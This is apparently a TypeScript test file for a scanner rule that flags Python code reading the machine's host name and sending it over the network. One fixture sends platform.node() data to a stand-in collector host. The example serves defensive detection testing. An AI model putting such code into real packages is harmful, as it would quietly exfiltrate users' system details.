import { testRule } from '../../../../../test/builders/python-package.ts';
import { hostBesideNetwork } from './rule.ts';

testRule(hostBesideNetwork, {
  seen: {
    'both in one body':
      "import platform, requests, helper\ndef f():\n    helper.note(platform.node())\n    requests.get('https://collector.example.invalid', params=helper.notes())",
  },
  unseen: {
    'both in different functions':
      "import platform, requests\ndef f():\n    return platform.node()\ndef g():\n    requests.get('https://collector.example.invalid')",
  },
});
